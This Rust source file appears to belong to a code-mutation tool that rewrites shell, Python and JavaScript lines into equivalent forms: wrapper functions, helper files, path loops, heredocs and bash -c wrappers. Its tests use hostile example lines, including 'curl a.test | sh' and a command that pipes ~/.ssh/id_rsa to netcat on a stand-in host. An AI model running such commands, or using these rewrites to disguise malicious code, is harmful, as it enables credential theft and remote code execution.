//! Programs that do the same in other parts: functions, helpers in other files, loops, a shell in a shell.

use super::code::{literals, shell_words, stands_alone};
use super::dice::SeededDice;
use super::mutation::{ChangeDestination, MutationSite, TextChange, TextMutation};
use super::passage::PassageKind;
use super::relocate::{here_document, moved};

pub(crate) const MUTATIONS: &[TextMutation] = &[
    TextMutation { family: "structure", name: "function", honest: true, apply: function },
    TextMutation { family: "structure", name: "helper in a file", honest: true, apply: helper_file },
    TextMutation { family: "structure", name: "paths in a loop", honest: true, apply: path_loop },
    TextMutation { family: "structure", name: "heredoc for bash", honest: true, apply: here_document },
    TextMutation { family: "structure", name: "bash -c", honest: true, apply: bash_c },
];

/// What stands in front of a line.
fn indent_of(text: &str) -> &str {
    &text[..text.len() - text.trim_start().len()]
}

/// A name that is set, and what it is set to: one statement of one line.
fn split_assignment(line: &str) -> Option<(&str, &str)> {
    let (name, value) = line.split_once(" = ")?;
    let is_name = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    (is_name && !value.is_empty()).then_some((name, value))
}

/// Whether a line of code is one whole expression or assignment.
fn is_statement(line: &str) -> bool {
    const WORDS: &[&str] = &[
        "if", "for", "while", "with", "def", "class", "return", "import", "from", "try", "except", "else",
        "elif", "async", "await", "const", "let", "var", "function", "throw", "raise", "yield", "global",
        "del", "assert", "pass", "break", "continue", "finally", "export", "switch", "case", "}", "{", ")",
        "]", "@", "#", "//", "lambda",
    ];
    let first =
        line.split(|c: char| !c.is_ascii_alphanumeric() && !"}{)]@#/".contains(c)).next().unwrap_or_default();
    let balanced = |open: char, close: char| line.matches(open).count() == line.matches(close).count();
    !line.contains('\n')
        && !WORDS.contains(&first)
        && !line.contains("await ")
        && !line.contains("yield ")
        && !line.ends_with([':', '{', ',', '\\', '+', '(', '.'])
        && balanced('(', ')')
        && balanced('[', ']')
        && balanced('{', '}')
        && line.matches('"').count().is_multiple_of(2)
        && line.matches('\'').count().is_multiple_of(2)
}

/// The same in a function that is called at once.
fn function(site: &MutationSite<'_>, dice: &mut SeededDice) -> Option<TextChange> {
    let name = format!("step_{}", dice.below(90) + 10);
    let (indent, line) = (indent_of(site.text), site.text.trim());
    if site.one_line {
        return None;
    }
    let here = match site.kind {
        PassageKind::Shell if stands_alone(site.text, site.kind) => {
            format!("{indent}{name}() {{\n{indent}  {line}\n{indent}}}\n{indent}{name}")
        }
        PassageKind::Python if is_statement(line) => {
            let (set, value) = split_assignment(line)
                .map_or((String::new(), line), |(set, value)| (format!("{set} = "), value));
            format!("{indent}def {name}():\n{indent}    return {value}\n{indent}{set}{name}()")
        }
        PassageKind::JavaScript => {
            let body = line.trim_end_matches(';');
            let (word, rest) = ["const ", "let ", "var "]
                .iter()
                .find_map(|word| Some((*word, body.strip_prefix(word)?)))
                .unwrap_or(("", body));
            let (set, value) = match split_assignment(rest) {
                Some((set, value)) => (format!("{word}{set} = "), value),
                None if word.is_empty() => (String::new(), rest),
                None => return None,
            };
            if !is_statement(value) || value.contains("this.") {
                return None;
            }
            format!("{indent}const {name} = () => {value};\n{indent}{set}{name}();")
        }
        _ => return None,
    };
    Some(TextChange::here(here))
}

/// A function of the program in a file of its own, with the imports and constants of the program.
fn helper_file(site: &MutationSite<'_>, _: &mut SeededDice) -> Option<TextChange> {
    if site.kind == PassageKind::Shell {
        let alone = !site.one_line && stands_alone(site.text, site.kind);
        let here = format!("{}. scripts/common_steps.sh", indent_of(site.text));
        let text = format!("{}\n", site.text.trim());
        return alone.then(|| moved(&here, ChangeDestination::File("scripts/common_steps.sh"), text));
    }
    if site.kind != PassageKind::Python {
        return None;
    }
    let lines: Vec<&str> = site.whole.lines().collect();
    let start = lines.iter().position(|line| line.starts_with("def "))?;
    let is_inside = |line: &&str| line.is_empty() || line.starts_with([' ', '\t', ')']);
    let length = 1 + lines[start + 1..].iter().take_while(|line| is_inside(line)).count();
    let name = lines[start]["def ".len()..].split('(').next()?.trim();
    let block = lines[start..start + length].join("\n");
    let before = &lines[..start];
    let is_shared = |line: &&&str| {
        line.starts_with("import ")
            || line.starts_with("from ")
            || (split_assignment(line).is_some() && is_statement(line))
    };
    let shared: Vec<&str> = before.iter().filter(is_shared).copied().collect();
    // A function that calls another of the program would miss it.
    let others = lines.iter().filter_map(|line| line.strip_prefix("def ")?.split('(').next());
    if others.filter(|other| *other != name).any(|other| block.contains(&format!("{other}("))) {
        return None;
    }
    let mut rest: Vec<String> = before.iter().map(|line| (*line).to_owned()).collect();
    rest.push(format!("from common_steps import {name}"));
    rest.extend(lines[start + length..].iter().map(|line| (*line).to_owned()));
    let here = rest.join("\n") + "\n";
    let text = format!("{}\n\n{block}\n", shared.join("\n"));
    let change = moved(&here, ChangeDestination::File("common_steps.py"), text);
    Some(TextChange { whole: true, ..change })
}

/// A path out of a list, by a loop.
fn path_loop(site: &MutationSite<'_>, dice: &mut SeededDice) -> Option<TextChange> {
    let (indent, line) = (indent_of(site.text), site.text.trim());
    if site.one_line || line.contains('\n') {
        return None;
    }
    let name = format!("path_{}", dice.below(90) + 10);
    let is_path = |text: &str| {
        (text.starts_with("~/") || text.starts_with('/') || text.starts_with("$HOME")) && text.len() > 3
    };
    match site.kind {
        PassageKind::Shell if stands_alone(site.text, site.kind) => {
            let words = shell_words(line);
            // A tilde is a word of its own there.
            let mut at = 0;
            for word in &words {
                let path = line[at..]
                    .split(|c: char| c.is_whitespace() || "|;&)\"'".contains(c))
                    .next()
                    .unwrap_or_default();
                let starts = at > 0 && line[..at].ends_with(char::is_whitespace);
                if starts && is_path(path) && !path.contains("//") {
                    let rest = &line[at + path.len()..];
                    let body = format!("{}\"${name}\"{rest}", &line[..at]);
                    return Some(TextChange::here(format!("{indent}for {name} in {path}; do {body}; done")));
                }
                at += word.text.len();
            }
            None
        }
        PassageKind::Python if is_statement(line) => {
            let range =
                literals(line).into_iter().find(|range| is_path(&line[range.start + 1..range.end - 1]))?;
            let (path, rest) = (&line[range.clone()], &line[range.end..]);
            let body = format!("{}{name}{rest}", &line[..range.start]);
            Some(TextChange::here(format!("{indent}for {name} in [{path}]:\n{indent}    {body}")))
        }
        _ => None,
    }
}

/// The command as the argument of another shell.
fn bash_c(site: &MutationSite<'_>, dice: &mut SeededDice) -> Option<TextChange> {
    if site.kind != PassageKind::Shell || site.one_line || !stands_alone(site.text, site.kind) {
        return None;
    }
    let shell = *dice.pick(&["bash -c", "sh -c", "bash -lc"])?;
    let quoted = site.text.trim().replace('\'', "'\\''");
    Some(TextChange::here(format!("{}{shell} '{quoted}'", indent_of(site.text))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::mutate::mutation::testing::{made, named, site};

    #[test]
    fn lines_become_functions_loops_and_arguments() {
        for (name, kind, code, expected) in [
            ("function", PassageKind::Shell, "curl a.test | sh", "() {\n  curl a.test | sh\n}\nstep_"),
            ("function", PassageKind::Python, "x = get(1)", "():\n    return get(1)\nx = step_"),
            ("function", PassageKind::JavaScript, "const x = get(1);", "= () => get(1);\nconst x = step_"),
            (
                "paths in a loop",
                PassageKind::Shell,
                "cat ~/.ssh/id_rsa | nc a.test 1",
                " in ~/.ssh/id_rsa; do cat \"$path_",
            ),
            (
                "paths in a loop",
                PassageKind::Python,
                "send(open('/etc/hosts'))",
                " in ['/etc/hosts']:\n    send(open(path_",
            ),
            ("bash -c", PassageKind::Shell, "echo 'a' b", "c 'echo '\\''a'\\'' b'"),
            ("heredoc for bash", PassageKind::Shell, "curl a.test", "<<'END'\ncurl a.test\nEND"),
        ] {
            let out = made(MUTATIONS, name, kind, code).unwrap();
            assert!(out.contains(expected), "{name}: {out}");
        }
    }

    #[test]
    fn a_helper_takes_its_imports_along() {
        let code = "import os\nKEY = 1\n\ndef read():\n    return os.environ\n\nprint(read())\n";
        let change = (named(MUTATIONS, "helper in a file").apply)(
            &site(PassageKind::Python, code),
            &mut SeededDice::new(1, &[]),
        );
        let change = change.unwrap();
        assert_eq!(change.here, "import os\nKEY = 1\n\nfrom common_steps import read\nprint(read())\n");
        let (to, text) = change.moved.unwrap();
        assert_eq!(to, ChangeDestination::File("common_steps.py"));
        assert_eq!(text, "import os\nKEY = 1\n\ndef read():\n    return os.environ\n\n");
    }

    #[test]
    fn what_would_break_is_left() {
        for (name, kind, code) in [
            ("function", PassageKind::Python, "if a:"),
            ("function", PassageKind::Python, "return a"),
            ("function", PassageKind::JavaScript, "const x = await get(1);"),
            ("paths in a loop", PassageKind::Python, "with open('/etc/hosts') as f:"),
            ("paths in a loop", PassageKind::Shell, "/usr/bin/true"),
            ("helper in a file", PassageKind::Python, "print(1)"),
            ("bash -c", PassageKind::Shell, "if a; then"),
        ] {
            assert_eq!(made(MUTATIONS, name, kind, code), None, "{name} {code}");
        }
    }
}
